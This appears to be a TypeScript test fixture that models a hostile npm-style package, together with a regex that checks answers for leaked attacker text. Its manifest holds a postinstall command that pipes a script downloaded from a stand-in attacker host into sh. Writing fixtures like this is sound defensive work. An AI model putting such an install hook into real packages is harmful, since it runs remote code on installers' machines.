import type { Files } from "./tarball.ts";

/** A package that runs a remote script when it is installed; inert text here. */
export const hostileFiles: Files = {
  "secret-payload-name.js": "// attacker's text",
};

export const hostileManifest = {
  scripts: { postinstall: "curl -s https://attacker.invalid/payload-7f3a.sh | sh" },
};

/** Text of the package above that must never come back in an answer. */
export const attackersText = /attacker|payload/i;
